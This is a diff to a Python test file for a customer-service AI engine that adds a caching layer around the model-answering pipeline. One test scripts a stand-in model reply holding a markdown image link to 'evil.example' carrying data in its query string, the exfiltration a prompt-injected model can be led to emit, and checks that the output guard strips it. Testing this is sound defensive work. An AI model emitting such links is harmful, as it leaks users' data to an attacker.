@@ -16,6 +16,8 @@ from parley.testing.model import MODES, ModelServer, Script
 from parley_ai_engine.admission.breaker import Breaker, BreakerRules
 from parley_ai_engine.admission.buckets import MemoryBuckets, Rate
 from parley_ai_engine.admission.gate import Gate, GateRules
+from parley_ai_engine.cache.answers import MemoryAnswers
+from parley_ai_engine.cache.remembering import Remembering
 from parley_ai_engine.guards.outgoing import Outgoing
 from parley_ai_engine.guards.words import WordList
 from parley_ai_engine.pipeline.answering import Answerer
@@ -42,7 +44,9 @@ class Desk:
         self.clock = clock
         self.routes = routes
         self.shown: list[tuple[str, str]] = []
-        self.answerer = Answerer(Shelf(), Ladder(routes, clock, **ladder), EngineSettings())
+        self.answerer = Answerer(
+            Shelf(), Remembering(Ladder(routes, clock, **ladder), MemoryAnswers(0, clock)), EngineSettings()
+        )
 
     async def ask(self, question: str = "多久可以退货？") -> Reply:
         """One turn of 30 virtual seconds."""
@@ -169,7 +173,7 @@ async def test_nothing_outlives_the_time_for_models(stand_in: ModelServer, mode:
         ladder = Ladder([Route(model, Breaker(clock))], clock, total_seconds=0.25)
         event = a_turn("多久可以退货？", seconds=clock.now() - 1_800_000_000.0 + 30)
         async with asyncio.timeout(1.25):
-            answerer = Answerer(Shelf(), ladder, EngineSettings())
+            answerer = Answerer(Shelf(), Remembering(ladder, MemoryAnswers(0, clock)), EngineSettings())
             reply = await answerer.answer(Turn.from_event(event), lambda _: ChunkWriter(lambda *_: None, clock))
         await stand_in.settled()
     assert reply.level == "L3"
@@ -248,7 +252,7 @@ async def test_a_listed_word_stops_the_upstream_and_asks_for_a_person(stand_in: 
 
 
 async def test_a_model_that_was_talked_into_a_link_shows_none(stand_in: ModelServer) -> None:
-    stand_in.script = Script("七天。![x](https://evil.example/?d=13800138000)", chunk_chars=3)
+    stand_in.script = Script("七天。![x](https://evil.example/?d=secret)", chunk_chars=3)
     async with a_desk(stand_in, "main") as desk:
         reply = await desk.ask()
     assert reply.text == "七天。![x]([…])"
